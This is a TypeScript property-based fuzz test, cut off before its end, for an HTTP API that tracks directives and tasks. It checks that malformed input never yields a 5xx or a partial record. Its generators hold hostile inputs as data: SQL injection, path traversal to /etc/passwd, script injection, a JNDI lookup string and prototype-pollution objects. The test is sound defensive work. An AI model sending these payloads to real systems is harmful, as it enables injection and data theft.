/**
 * A client's mistake never yields a 5xx and never leaves a partial record: property-based fuzzing
 * (fast-check) of the HTTP API on real servers (dev server + PostgreSQL), over bodies, encodings,
 * headers, path ids and query strings, sizes, and multipart uploads.
 *
 * Every request is checked the same way:
 * - its status is below 500;
 * - a 4xx is an RFC 9457 problem document (`application/problem+json`, the shape of problemSchema,
 *   `status` equal to the HTTP status);
 * - a 4xx changed nothing: the rows of tasks, directives, directive_items, evidence, audit_events,
 *   notifications and notification_reads are the same before and after (counted over the whole
 *   database: integration files run one at a time, so nothing else writes meanwhile), and the
 *   fuzzing users' idempotency_keys grow only by the kept answer of a request that carried a
 *   valid key, never by a claim left `in_progress`;
 * - a 202 launch is followed by its first audit row (a started workflow that never records is a
 *   partial record too), and the launched task can be read back.
 *
 * Reproducible: FUZZ_SEED (default below) fixes every generated case; FUZZ_RUNS scales the number
 * of runs per property (default 200); FUZZ_SHRINK=1 shrinks a counterexample (slow on HTTP).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type request from 'supertest';
import fc from 'fast-check';
import { sql } from 'kysely';
import { openApiDocument } from '../../api/openapi';
import { problemSchema } from '../../api/problems';
import { countRows, untilQuiet } from '../helpers/counts';
import { useApiWorld } from '../helpers/api-world';
import { DAY, PDF, PNG } from '../helpers/fixtures';
import { uniq } from '../helpers/servers';

const SEED = Number(process.env.FUZZ_SEED ?? 20251104);
const RUNS = Number(process.env.FUZZ_RUNS ?? 200);
const SHRINK = process.env.FUZZ_SHRINK === '1';
const params = (numRuns = RUNS) => ({ seed: SEED, numRuns, endOnFailure: !SHRINK, verbose: 1 as const });

const EVIDENCE_MAX_BYTES = 64 * 1024;

/** What attackers and broken clients send. */
const NASTY_STRINGS = [
  "'; DROP TABLE tasks;--",
  "' OR '1'='1",
  '../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%00',
  'a\u0000b',
  '\u0000',
  '%2e%2e%2f',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/x}',
  '{{7*7}}',
  '\uFEFF',
  '\uD800',
  '\u202E\u0041\u0042',
  'Đ̸̢̛̞̤̲̰͓̓ͧ̃ơ̷̩̖̻̤̆̅͂ͥn vị',
  '🇻🇳'.repeat(500),
  'x'.repeat(100_000),
  '',
  ' ',
  'null',
  'NaN',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59-12:00',
  '0001-01-01T00:00:00+14:00',
  '2026-02-29T00:00:00+07:00',
];
const nastyString = fc.oneof(
  fc.constantFrom(...NASTY_STRINGS),
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: 'grapheme', maxLength: 50 }),
);
const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  nastyString,
  fc.constantFrom(
    null,
    true,
    false,
    0,
    -0,
    -1,
    1e308,
    -1e308,
    2 ** 53 + 1,
    5e-324,
    [],
    {},
    [[[[]]]],
    JSON.parse('{"__proto__": {"admin": true}}'),
    { constructor: { prototype: { polluted: 1 } } },
  ),
  fc.double(),
  fc.integer(),
  fc.array(nastyString, { maxLength: 30 }),
  fc.constant(Array.from({ length: 5000 }, (_, i) => `ev_${i}`)),
  fc.jsonValue({ maxDepth: 4 }),
);

/** Raw JSON texts a parser may choke on. */
const deepArray = (n: number) => `${'['.repeat(n)}${']'.repeat(n)}`;
const deepObject = (n: number) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`;
const rawJsonText = fc.oneof(
  fc.integer({ min: 1_000, max: 200_000 }).map(deepArray),
  fc.integer({ min: 1_000, max: 100_000 }).map(deepObject),
  fc.integer({ min: 10, max: 5_000 }).map((n) => `{"text": ${deepArray(n)}, "reason": ${deepArray(n)}, "summary": ${deepObject(n)}}`),
  fc.constantFrom(
    '1e400',
    '-1e400',
    '{"percent": 1e400, "text": "x"}',
    '{"value": 1e999, "targetId": "t", "measuredOn": "2025-11-30"}',
    '{"__proto__": {"isAdmin": true}}',
    '{"a":1,"a":2}',
    '[]',
    '""',
    'null',
    'true',
    '{',
    '{"ref":',
    '\uFEFF{}',
    '{"text":"\\ud800"}',
  ),
);

/** The operations and templated paths of the API, as its OpenAPI document lists them. */
const DOCUMENTED_POSTS: string[] = [];
const PATH_TEMPLATES: { method: 'get' | 'post' | 'patch'; template: string }[] = [];
for (const [path, methods] of Object.entries(openApiDocument().paths ?? {})) {
  for (const [method, op] of Object.entries(methods as Record<string, { operationId?: string }>)) {
    if (method === 'post') DOCUMENTED_POSTS.push(op.operationId!);
    if ((method === 'get' || method === 'post' || method === 'patch') && path.includes('{'))
      PATH_TEMPLATES.push({ method, template: path });
  }
}

describe('fuzzing the HTTP API: no 5xx, no partial record', () => {
  const w = useApiWorld({ directivePrefix: 'FUZZ', evidenceMaxBytes: EVIDENCE_MAX_BYTES });
  const { db, http, directiveNumber } = w;
  const { office, lead: leadUnit, coordinating: coordinatingUnit } = w.units;
  const fuzzers = [w.people.secretariat, w.people.lead];
  let secretariat: string;
  let lead: string;

  /** The targets of the fuzzing: one task per state a command needs, a directive with a draft, a notification. */
  const world = {} as {
    open: string;
    working: string;
    uploads: string;
    submitted: string;
    extension: string;
    recurring: string;
    periodKey: string;
    evidenceId: string;
    directiveId: string;
    discardDirectiveId: string;
    notificationId: string;
  };

  beforeAll(async () => {
    ({
      secretariat: { auth: secretariat },
      lead: { auth: lead },
    } = w.people);
    world.open = await w.launch();
    world.uploads = await w.launch();
    ({ taskId: world.working, evidenceId: world.evidenceId } = await w.fixtures.withEvidence());
    world.submitted = (await w.fixtures.submitted()).taskId;
    world.extension = (await w.fixtures.extensionPending()).taskId;
    ({ taskId: world.recurring, periodKey: world.periodKey } = await w.fixtures.recurring());
    const d = await http()
      .post('/api/v1/directives')
      .set('authorization', secretariat)
      .send({
        number: `${directiveNumber}-VB`,
        decidedBy: office,
        items: [{ ref: '2.4', title: 'Xây dựng Trung tâm an ninh mạng cấp tỉnh', leadUnit }],
      })
      .expect(201);
    world.directiveId = d.body.id;
    // A directive of its own for discarding: a valid discard must not take 2.4 from the launch and patch targets.
    const toDiscard = await http()
      .post('/api/v1/directives')
      .set('authorization', secretariat)
      .send({ number: `${directiveNumber}-LOAI`, items: [{ ref: '2.4', title: 'Mục đọc nhầm' }] })
      .expect(201);
    world.discardDirectiveId = toDiscard.body.id;
    const n = await db
      .selectFrom('notifications')
      .select('id')
      .where('task_id', '=', world.open)
      .where('recipient_role', '=', 'lead_unit')
      .executeTakeFirstOrThrow();
    world.notificationId = String(n.id);
  }, 120_000);

  /** Statuses answered, per property: the fuzzing reached past validation, and how often. */
  const tally: Record<string, Record<number, number>> = {};

  afterAll(async () => {
    // What the fuzzing registered (directives from text under fuzzed numbers) would collide with later files' imports.
    await db
      .deleteFrom('directives')
      .where(
        'created_by',
        'in',
        fuzzers.map((f) => f.login),
      )
      .execute();
    console.log(
      `fuzz (seed ${SEED}, ${RUNS} runs a property): statuses answered\n${Object.entries(tally)
        .map(
          ([p, t]) =>
            `  ${p.slice(0, 60).padEnd(60)} ${Object.entries(t)
              .map(([st, n]) => `${st}×${n}`)
              .join(' ')}`,
        )
        .join('\n')}`,
    );
  });

  /** Waits until a new task's workflow has written what its first activation writes (launched, overdue, a report period ...). */
  const quiet = (taskId: string) => untilQuiet(() => countRows(db, 'audit_events', { task_id: taskId }), 2);

  const validLaunch = () => w.launchBody();

  // ---- the POST endpoints, from the OpenAPI document: who sends them and a valid body ----

  interface Target {
    path: () => string;
    auth: () => string;
    /** A body the endpoint accepts (JSON); mutations start from it. */
    valid: () => Record<string, unknown>;
    kind?: 'multipart' | 'text';
  }
  const onTask = (task: keyof typeof world, name: string, who: 'lead' | 'secretariat', valid: () => Record<string, unknown>): Target => ({
    path: () => `/api/v1/tasks/${world[task]}/${name}`,
    auth: () => (who === 'lead' ? lead : secretariat),
    valid,
  });
  const POST_TARGETS: Record<string, Target> = {
    launchTask: { path: () => '/api/v1/tasks', auth: () => secretariat, valid: () => validLaunch() },
    acknowledge: onTask('open', 'acknowledge', 'lead', () => ({ note: 'Đã tiếp nhận' })),
    reportProgress: onTask('working', 'progress', 'lead', () => ({ text: 'Đã ký hợp đồng', percent: 60 })),
    recordMeasurement: onTask('working', 'measurements', 'lead', () => ({
      targetId: 'phu-song-5g',
      value: 58.4,
      measuredOn: '2025-11-30',
      evidenceIds: [world.evidenceId],
      note: '',
    })),
    submit: onTask('working', 'submit', 'lead', () => ({ summary: 'Đề nghị hoàn thành', evidenceIds: [world.evidenceId] })),
    approve: onTask('submitted', 'approve', 'secretariat', () => ({ note: 'Đạt' })),
    return: onTask('submitted', 'return', 'secretariat', () => ({ reason: 'Bổ sung biên bản' })),
    requestExtension: onTask('open', 'extension-requests', 'lead', () => ({
      requestedDueAt: new Date(Date.now() + 200 * DAY).toISOString(),
      reason: 'Chờ kinh phí',
    })),
    decideExtension: onTask('extension', 'extension-decision', 'secretariat', () => ({ approve: false, reason: 'Không đủ căn cứ' })),
    reassign: onTask('open', 'reassign', 'secretariat', () => ({
      newLeadUnit: coordinatingUnit,
      responsibleOfficial: 'Giám đốc Sở Tài chính',
      reason: 'Điều chỉnh',
    })),
    cancel: onTask('open', 'cancel', 'secretariat', () => ({ reason: 'Thay thế' })),
    // Refused (409) while the task is open; once a fuzzed cancel closed it, a valid reopen reopens it.
    reopenTask: onTask('open', 'reopen', 'secretariat', () => ({
      reason: 'Làm lại',
      newDueAt: new Date(Date.now() + 90 * DAY).toISOString(),
    })),
    submitReport: onTask('recurring', 'reports', 'lead', () => ({ periodKey: world.periodKey, summary: 'Báo cáo quý' })),
    uploadEvidence: { ...onTask('working', 'evidence', 'lead', () => ({ description: 'Biên bản' })), kind: 'multipart' },
    importDirective: {
      path: () => '/api/v1/directives',
      auth: () => secretariat,
      valid: () => ({ number: `${directiveNumber}-${uniq()}`, items: [{ ref: '1', title: 'Rà soát hạ tầng' }] }),
    },
    extractDirective: { path: () => '/api/v1/directives/extract', auth: () => secretariat, valid: () => ({}), kind: 'text' },
    registerDirectiveFromText: {
      path: () => '/api/v1/directives/from-text',
      auth: () => secretariat,
      valid: () => ({ text: 'THÔNG BÁO\n1. Giao Công an tỉnh xây dựng trung tâm an ninh mạng.', number: `${directiveNumber}-${uniq()}` }),
    },
    discardDirectiveItem: {
      path: () => `/api/v1/directives/${world.discardDirectiveId}/items/2.4/discard`,
      auth: () => secretariat,
      valid: () => ({ reason: 'Mục không giao việc cho ai' }),
    },
    launchDirectiveItems: {
      path: () => `/api/v1/directives/${world.directiveId}/launch`,
      auth: () => secretariat,
      valid: () => ({ refs: ['2.4'] }),
    },
    markInboxRead: { path: () => `/api/v1/inbox/${world.notificationId}/read`, auth: () => lead, valid: () => ({}) },
  };
  const postOperations = Object.keys(POST_TARGETS);

  /** A real value for a parameter of a templated path, so that only the fuzzed one is wrong. */
  const realParam = (template: string, name: string): string =>
    name === 'evidenceId'
      ? world.evidenceId
      : name === 'ref'
        ? '2.4'
        : template.startsWith('/api/v1/directives')
          ? world.directiveId
          : template.startsWith('/api/v1/inbox')
            ? world.notificationId
            : world.working;

  // ---- the invariant every request is held to ----

  async function snapshot() {
    const logins = fuzzers.map((f) => f.login);
    const { rows } = await sql<Record<string, number>>`
      select
        (select count(*) from tasks)::int as tasks,
        (select count(*) from directives)::int as directives,
        (select count(*) from directive_items)::int as directive_items,
        (select count(*) from directive_items where status = 'launched')::int as directive_items_launched,
        (select count(*) from evidence)::int as evidence,
        (select count(*) from audit_events)::int as audit_events,
        (select count(*) from notifications)::int as notifications,
        (select count(*) from notification_reads)::int as notification_reads,
        (select count(*) from idempotency_keys where login = any(${logins}))::int as idempotency_keys,
        (select count(*) from idempotency_keys where login = any(${logins}) and state = 'in_progress')::int as idempotency_in_progress
    `.execute(db);
    return rows[0];
  }

  const describeRes = (what: string, res: request.Response) => `${what} -> ${res.status} ${(res.text ?? '').slice(0, 400)}`;

  /**
   * Sends one fuzzed request and holds it to the invariant. `validKey` says whether it carried a
   * well-formed Idempotency-Key (whose 4xx answer is then kept, by design: one row, state done).
   */
  async function clean(what: string, send: () => request.Test, o: { validKey?: boolean } = {}): Promise<request.Response> {
    const before = await snapshot();
    const res = await send();
    const name = expect.getState().currentTestName?.split(' > ').pop()?.split(':')[0] ?? '?';
    (tally[name] ??= {})[res.status] = (tally[name][res.status] ?? 0) + 1;
    if (res.status >= 500) throw new Error(`5xx for a client's request: ${describeRes(what, res)}`);
    const after = await snapshot();
    if (after.idempotency_in_progress !== 0) throw new Error(`an Idempotency-Key claim was left in progress: ${describeRes(what, res)}`);
    if (res.status >= 400) {
      if (res.status !== 431) {
        // 431 comes from Node's HTTP parser, before any application code can answer.
        const type = res.headers['content-type'] ?? '';
        if (!/^application\/problem\+json/.test(type))
          throw new Error(`a ${res.status} that is not a problem document (${type}): ${describeRes(what, res)}`);
        const shape = problemSchema.safeParse(res.body);
        if (!shape.success || res.body.status !== res.status) throw new Error(`a malformed problem document: ${describeRes(what, res)}`);
      }
      const { idempotency_keys: keysAfter, ...restAfter } = after;
      const { idempotency_keys: keysBefore, ...restBefore } = before;
      if (JSON.stringify(restAfter) !== JSON.stringify(restBefore))
        throw new Error(
          `a refused request left rows behind: ${JSON.stringify(restBefore)} -> ${JSON.stringify(restAfter)}: ${describeRes(what, res)}`,
        );
      const grown = keysAfter - keysBefore;
      if (grown !== 0 && !(o.validKey && grown === 1)) throw new Error(`idempotency_keys grew by ${grown}: ${describeRes(what, res)}`);
    } else if (res.status === 202 && typeof res.body?.id === 'string') {
      // A launch: the workflow must record its first row, and the task must read back.
      await w.untilLaunched(res.body.id, `the first row of ${res.body.id} (${what})`);
      await quiet(res.body.id);
      const read = await http().get(`/api/v1/tasks/${res.body.id}`).set('authorization', secretariat);
      if (read.status !== 200)
        throw new Error(`a launched task does not read back: ${describeRes(`GET /api/v1/tasks/${res.body.id}`, read)}`);
    }
    return res;
  }

  it("fuzzes every POST endpoint and every route with a parameter (the lists are the OpenAPI document's)", () => {
    expect(DOCUMENTED_POSTS.sort()).toEqual([...postOperations].sort());
    expect(PATH_TEMPLATES.length).toBeGreaterThan(15);
  });

  it('arbitrary JSON bodies (wrong types, unicode, injections, deep nesting, mutations of valid bodies) to every POST endpoint', async () => {
    const mutated = fc
      .tuple(
        fc.constantFrom(...postOperations),
        fc.oneof(fc.constantFrom('__proto__', 'constructor', 'extra', 'deadline.dueAt', 'targets.0.value', 'deadline.kind'), fc.nat(20)),
        nastyValue,
        fc.boolean(),
      )
      .map(([op, which, value, drop]) => {
        const body = POST_TARGETS[op].valid();
        const keys = Object.keys(body);
        const key = typeof which === 'number' ? (keys[which % Math.max(1, keys.length)] ?? 'extra') : which;
        const path = key.split('.');
        let holder: Record<string, unknown> = body;
        for (const k of path.slice(0, -1)) {
          const next = holder[k];
          if (next === null || typeof next !== 'object') break;
          holder = next as Record<string, unknown>;
        }
        const last = path[path.length - 1];
        if (drop) delete holder[last];
        else Object.defineProperty(holder, last, { value, enumerable: true, writable: true, configurable: true });
        return { op, text: JSON.stringify(body) ?? 'null' };
      });
    const arbitrary = fc
      .tuple(
        fc.constantFrom(...postOperations),
        fc.oneof(fc.jsonValue({ maxDepth: 6, stringUnit: 'binary' }), fc.jsonValue({ maxDepth: 3, stringUnit: 'grapheme' })),
      )
      .map(([op, v]) => ({ op, text: JSON.stringify(v) ?? 'null' }));
    const raw = fc.tuple(fc.constantFrom(...postOperations), rawJsonText).map(([op, text]) => ({ op, text }));

    await fc.assert(
      fc.asyncProperty(
        fc.oneof({ arbitrary: mutated, weight: 3 }, { arbitrary, weight: 2 }, { arbitrary: raw, weight: 1 }),
        fc.boolean(),
        async ({ op, text }, withKey) => {
          const t = POST_TARGETS[op];
          await clean(
            `POST ${t.path()} ${withKey ? '(Idempotency-Key) ' : ''}${text.slice(0, 200)}`,
            () => {
              const req = http().post(t.path()).set('authorization', t.auth()).set('content-type', 'application/json');
              return (withKey ? req.set('idempotency-key', `fuzz-${uniq()}`) : req).send(text);
            },
            { validKey: withKey },
          );
        },
      ),
      params(),
    );
  });

  it('bodies in any encoding: invalid UTF-8, other charsets, content types and content encodings', async () => {
    const bytes = fc.oneof(
      fc.uint8Array({ maxLength: 3000 }).map((a) => Buffer.from(a)),
      fc.constantFrom(
        Buffer.from([0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc]),
        Buffer.from('{"text": "\xff\xfe Ti\xe9n \xc0\xaf"}', 'latin1'),
        Buffer.from('{"reason": "Thay th\u1ebf"}', 'utf16le'),
        Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('{"reason":"BOM"}')]),
        Buffer.from([0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00]),
        PDF,
        PNG,
      ),
      fc.jsonValue({ maxDepth: 3, stringUnit: 'grapheme' }).map((v) => Buffer.from(JSON.stringify(v) ?? 'null', 'utf8')),
    );
    const contentType = fc.oneof(
      fc.constantFrom(
        'application/json',
        'application/json; charset=utf-8',
        'application/json; charset=latin1',
        'application/json; charset=iso-8859-1',
        'application/json; charset=utf-16',
        'application/json; charset=utf-16le',
        'application/json; charset=x-klingon',
        'application/json; charset=',
        'application/json;;;',
        'application/vnd.api+json',
        'text/plain; charset=utf-8',
        'text/plain; charset=latin1',
        'application/yaml',
        'text/yaml; charset=windows-1258',
        'application/x-www-form-urlencoded',
        'multipart/form-data',
        'multipart/form-data; boundary=',
        'multipart/form-data; boundary=xyz',
        'application/octet-stream',
        '*/*',
        'json',
        '',
      ),
      fc.string({ unit: 'grapheme-ascii', maxLength: 60 }),
    );
    const encoding = fc.option(fc.constantFrom('gzip', 'deflate', 'br', 'identity', 'x-garbage', 'gzip, gzip', 'compress'), {
      nil: undefined,
    });
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...postOperations, 'patchDirectiveItem'),
        bytes,
        contentType,
        encoding,
        async (op, body, type, contentEncoding) => {
          const path = op === 'patchDirectiveItem' ? `/api/v1/directives/${world.directiveId}/items/2.4` : POST_TARGETS[op].path();
          const auth = op === 'patchDirectiveItem' ? secretariat : POST_TARGETS[op].auth();
          await clean(`${op} ${type} ${contentEncoding ?? ''} ${body.subarray(0, 60).toString('hex')}`, () => {
            let req = (op === 'patchDirectiveItem' ? http().patch(path) : http().post(path))
              .set('authorization', auth)
              .set('content-type', type);
            if (contentEncoding) req = req.set('content-encoding', contentEncoding);
            return req.send(body);
          });
        },
      ),
      params(),
    );
  });

  it('arbitrary path ids and query strings on every route with a parameter, and on the lists and reports', async () => {
    const segment = fc.oneof(
      fc
        .constantFrom(
          '..',
          '.',
          '../../etc/passwd',
          '..%2f..%2fetc%2fpasswd',
          '%2e%2e',
          '%00',
          'a%00b',
          '%',
          '%zz',
          '%E0%A4%A',
          '%C0%AF',
          "'; DROP TABLE tasks;--",
          "1' OR '1'='1",
          '0',
          '-1',
          '99999999999999999999',
          '9223372036854775808',
          '1e3',
          'NaN',
          'x'.repeat(3000),
          'ev_' + 'A'.repeat(64),
        )
        .map((s) => ({ s, raw: true })),
      fc.string({ unit: 'binary', maxLength: 80 }).map((s) => ({ s: encodeURIComponent(s), raw: false })),
      fc
        .string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 60 })
        .filter((s) => !/[\s?#/]/.test(s))
        .map((s) => ({ s, raw: true })),
      fc
        .constantFrom('working', 'open', 'evidenceId', 'directiveId', 'notificationId')
        .map((k) => ({ s: world[k as keyof typeof world] + '-x', raw: true })),
    );
    const query = fc.dictionary(
      fc.constantFrom(
        'page',
        'pageSize',
        'unit',
        'directive',
        'statusGroup',
        'overdue',
        'dueFrom',
        'dueTo',
        'period',
        'from',
        'to',
        'asOf',
        'aheadMarginDays',
        'format',
        'unread',
        '__proto__',
        'constructor',
      ),
      fc.oneof(
        nastyString,
        fc.constantFrom('0', '-1', '1e400', '100001', '2026-Q5', '2026-H3', '2026-13', '0000', 'true', 'xlsx', 'csv', 'json'),
        fc.array(fc.constantFrom('a', 'b', '1'), { minLength: 2, maxLength: 3 }),
      ),
      { maxKeys: 5 },
    );
    const LISTS = [
      '/api/v1/tasks',
      '/api/v1/reports/units',
      '/api/v1/reports/directives',
      '/api/v1/reports/late',
      '/api/v1/inbox',
      '/api/v1/directives',
    ];
    await fc.assert(
      fc.asyncProperty(
        fc.nat(PATH_TEMPLATES.length + LISTS.length - 1),
        segment,
        fc.nat(2),
        query,
        fc.boolean(),
        async (pick, fuzzed, which, q, asLead) => {
          const auth = asLead ? lead : secretariat;
          if (pick >= PATH_TEMPLATES.length) {
            const path = LISTS[pick - PATH_TEMPLATES.length];
            const qs = Object.entries(q)
              .flatMap(([k, v]) => (Array.isArray(v) ? v.map((x) => [k, x]) : [[k, v]]))
              .map(([k, v]) => `${encodeURIComponent(k)}=${encodeURIComponent(String(v))}`)
              .join('&');
            await clean(`GET ${path}?${qs}`, () => http().get(`${path}?${qs}`).set('authorization', auth));
            return;
          }
          const { method, template } = PATH_TEMPLATES[pick];
          let i = 0;
          // One parameter fuzzed, the others real, so the fuzzed one is what the route has to cope with.
          const path = template.replace(/\{(\w+)\}/g, (_, name: string) =>
            i++ === which % template.match(/\{/g)!.length ? fuzzed.s : encodeURIComponent(realParam(template, name)),
          );
          await clean(`${method.toUpperCase()} ${path}`, () => {
            const req = method === 'get' ? http().get(path) : method === 'post' ? http().post(path) : http().patch(path);
            return req.set('authorization', auth).send({});
          });
        },
      ),
      params(),
    );
  });

  it('random headers: content-type garbage, charsets, Authorization, Idempotency-Key (oversized, non-ASCII), Accept, X-Request-Id', async () => {
    const headerValue = fc.oneof(
      fc.string({ unit: 'grapheme-ascii', maxLength: 120 }),
      fc.constantFrom('', ' ', '\t', '; ; ;', 'a'.repeat(8000), '"quoted"', 'é'.normalize('NFC')),
    );
    const idempotencyKey = fc.oneof(
      fc.uuid(),
      fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 250 }),
      fc.integer({ min: 201, max: 8000 }).map((n) => 'k'.repeat(n)),
      fc.constantFrom('', ' ', 'has space', 'tab\there', 'ключ', 'khóa-việc', "'; DROP TABLE idempotency_keys;--"),
    );
    const headers = fc.record(
      {
        'content-type': fc.oneof(
          fc.constantFrom(
            'application/json',
            'application/json; charset=latin1',
            'application/json; charset=utf-8',
            'text/plain',
            'application/xml',
            'multipart/form-data',
          ),
          headerValue,
        ),
        'idempotency-key': idempotencyKey,
        accept: headerValue,
        'accept-charset': headerValue,
        'x-request-id': headerValue,
        'x-forwarded-for': headerValue,
      },
      { requiredKeys: [] },
    );
    // Mostly the user's own token (so the other headers reach the routes), sometimes a broken one.
    const authorization = fc.oneof(
      { arbitrary: fc.constant(null), weight: 4 },
      {
        arbitrary: fc.oneof(
          fc.constantFrom(
            'Bearer',
            'Bearer ',
            'bearer dtk_x',
            'Basic YWRtaW46YWRtaW4=',
            'Bearer dtk_' + 'A'.repeat(43),
            'Bearer  ',
            'Token abc',
          ),
          headerValue,
        ),
        weight: 1,
      },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...postOperations),
        headers,
        fc.constantFrom('valid', 'broken', 'deep'),
        authorization,
        async (op, h, bodyKind, auth) => {
          const t = POST_TARGETS[op];
          // Only header values Node can send at all (it refuses control characters and non-Latin-1 before the request leaves).
          const sendable = Object.fromEntries(
            Object.entries({ ...h, ...(auth === null ? {} : { authorization: auth }) }).filter(([, v]) =>
              /^[\t\x20-\x7e\x80-\xff]*$/.test(String(v)),
            ),
          );
          const key = sendable['idempotency-key'];
          const validKey = typeof key === 'string' && /^[\x21-\x7e]{1,200}$/.test(key);
          const body = bodyKind === 'valid' ? JSON.stringify(t.valid()) : bodyKind === 'deep' ? deepArray(20_000) : '{"x":';
          await clean(
            `POST ${t.path()} ${JSON.stringify(sendable).slice(0, 300)}`,
            () => {
              let req = http().post(t.path());
              if (!('authorization' in sendable)) req = req.set('authorization', t.auth());
              for (const [k, v] of Object.entries(sendable)) req = req.set(k, String(v));
              return req.send(body);
            },
            { validKey },
          );
        },
      ),
      params(),
    );
  });

  it('dates at the edges of the calendar in every date field: refused, or accepted only when they can be stored', async () => {
    const offset = fc.constantFrom('Z', '+07:00', '+14:00', '-12:00', '+00:00', '-00:30');
    const instant = fc.oneof(
      fc.constantFrom(
        '0000-01-01T00:00:00Z',
        '0001-01-01T00:00:00+14:00',
        '0001-01-01T00:00:00Z',
        '9999-12-31T23:59:59-12:00',
        '9999-12-31T23:59:59+07:00',
        '9998-12-31T23:59:59+07:00',
        '1970-01-01T00:00:00Z',
        '2026-02-29T00:00:00+07:00',
        '2028-02-29T23:59:59+07:00',
      ),
      fc
        .tuple(
          fc.integer({ min: 0, max: 9999 }),
          fc.integer({ min: 1, max: 12 }),
          fc.integer({ min: 1, max: 31 }),
          fc.integer({ min: 0, max: 23 }),
          offset,
        )
        .map(
          ([y, m, d, h, o]) =>
            `${String(y).padStart(4, '0')}-${String(m).padStart(2, '0')}-${String(d).padStart(2, '0')}T${String(h).padStart(2, '0')}:00:00${o}`,
        ),
    );
    const civil = fc.oneof(
      fc.constantFrom('0000-01-01', '0000-02-29', '0001-01-01', '9999-12-31', '2025-02-29', '2024-02-29'),
      instant.map((i) => i.slice(0, 10)),
    );
    // Where each endpoint takes a date, and how to put one there.
    const FIELDS: [op: string, set: (body: Record<string, any>, instant: string, civil: string) => void][] = [
      ['launchTask', (b, i) => (b.deadline = { kind: 'date', dueAt: i })],
      ['launchTask', (b, i) => (b.deadline = { kind: 'recurring', rule: { freq: 'yearly', dueOffsetDays: 0 }, until: i })],
      ['launchTask', (b, i) => (b.targets[0].dueAt = i)],
      ['requestExtension', (b, i) => (b.requestedDueAt = i)],
      ['decideExtension', (b, i) => Object.assign(b, { approve: true, newDueAt: i })],
      ['recordMeasurement', (b, _i, c) => (b.measuredOn = c)],
      ['importDirective', (b, _i, c) => (b.issuedOn = c)],
      ['importDirective', (b, i) => (b.items = [{ ref: '1', title: 'Rà soát', deadline: { kind: 'date', dueAt: i } }])],
    ];
    // What PostgreSQL stores and the working calendar can plan past (a schedule runs days beyond the deadline).
    const storable = (value: string) => {
      const year = value.length === 10 ? Number(value.slice(0, 4)) : new Date(value).getUTCFullYear();
      return year >= 1 && year <= 9998;
    };
    await fc.assert(
      fc.asyncProperty(fc.nat(FIELDS.length - 1), instant, civil, async (which, i, c) => {
        const [op, set] = FIELDS[which];
        const t = POST_TARGETS[op];
        const body = t.valid() as Record<string, any>;
        set(body, i, c);
        const used = op === 'recordMeasurement' || (op === 'importDirective' && which === 6) ? c : i;
        const res = await clean(`POST ${t.path()} ${JSON.stringify(body).slice(0, 300)}`, () =>
          http().post(t.path()).set('authorization', t.auth()).send(body),
        );
        if (res.status < 300 && !storable(used))
          throw new Error(`accepted a date that cannot be stored (${used}): ${describeRes(t.path(), res)}`);
      }),
      // Half the runs: a quarter of them launch a workflow, which takes a moment to settle.
      params(Math.ceil(RUNS / 2)),
    );
  });

  it('oversized bodies: JSON over 1 MB and YAML over 2 MB answer 413, files over the limit 413, nothing kept', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...postOperations.filter((o) => POST_TARGETS[o].kind === undefined)),
        fc.integer({ min: 1024 * 1024 + 1, max: 3 * 1024 * 1024 }),
        fc.constantFrom('string', 'array', 'object'),
        async (op, size, shape) => {
          const t = POST_TARGETS[op];
          const filler =
            shape === 'string'
              ? JSON.stringify('x'.repeat(size))
              : shape === 'array'
                ? `[${'1,'.repeat(size / 2)}1]`
                : `{${Array.from({ length: Math.ceil(size / 12) }, (_, i) => `"k${i}":1`).join(',')}}`;
          const body = `{"text": ${filler}, "reason": "x"}`;
          const res = await clean(`POST ${t.path()} (${body.length} bytes of JSON)`, () =>
            http().post(t.path()).set('authorization', t.auth()).set('content-type', 'application/json').send(body),
          );
          expect(res.status).toBe(413);
          expect(res.body.type).toBe('payload-too-large');
        },
      ),
      params(Math.max(5, Math.round(RUNS / 20))),
    );
    const yaml = `number: "${directiveNumber}-Y"\nsourceText: "${'y'.repeat(2 * 1024 * 1024 + 10)}"\n`;
    const bigYaml = await clean('POST /api/v1/directives (YAML over 2 MB)', () =>
      http().post('/api/v1/directives').set('authorization', secretariat).set('content-type', 'application/yaml').send(yaml),
    );
    expect(bigYaml.status).toBe(413);
    const bigText = await clean('POST /api/v1/directives/extract (text over 2 MB)', () =>
      http()
        .post('/api/v1/directives/extract')
        .set('authorization', secretariat)
        .set('content-type', 'text/plain; charset=utf-8')
        .send('Số: 1-TB/X\n'.repeat(250_000)),
    );
    expect(bigText.status).toBe(413);
    const bigFile = await clean('POST evidence over the limit', () =>
      http()
        .post(`/api/v1/tasks/${world.working}/evidence`)
        .set('authorization', lead)
        .attach('file', Buffer.concat([PDF, Buffer.alloc(EVIDENCE_MAX_BYTES)]), { filename: 'lon.pdf', contentType: 'application/pdf' }),
    );
    expect(bigFile.status).toBe(413);
    // Under the body limit but far over every field's own limit: a 400 naming the field.
    const longText = await clean('progress with a 900 kB text', () =>
      http()
        .post(`/api/v1/tasks/${world.working}/progress`)
        .set('authorization', lead)
        .send({ text: 'x'.repeat(900 * 1024) }),
    );
    expect(longText.status).toBe(400);
    // A header block over Node's limit is refused by Node itself (431), before the application.
    const hugeKey = await clean('Idempotency-Key of 20 kB', () =>
      http()
        .post(`/api/v1/tasks/${world.working}/progress`)
        .set('authorization', lead)
        .set('idempotency-key', 'k'.repeat(20_000))
        .send({ text: 'x' }),
    );
    expect(hugeKey.status).toBe(431);
  });

  it('multipart garbage to the evidence route: broken boundaries, stray parts, hostile file names and types, truncated bodies', async () => {
    const part = fc.record({
      name: fc.oneof(
        fc.constantFrom('file', 'file', 'description', 'description[]', 'file[0]', '__proto__', 'constructor', 'toString', ''),
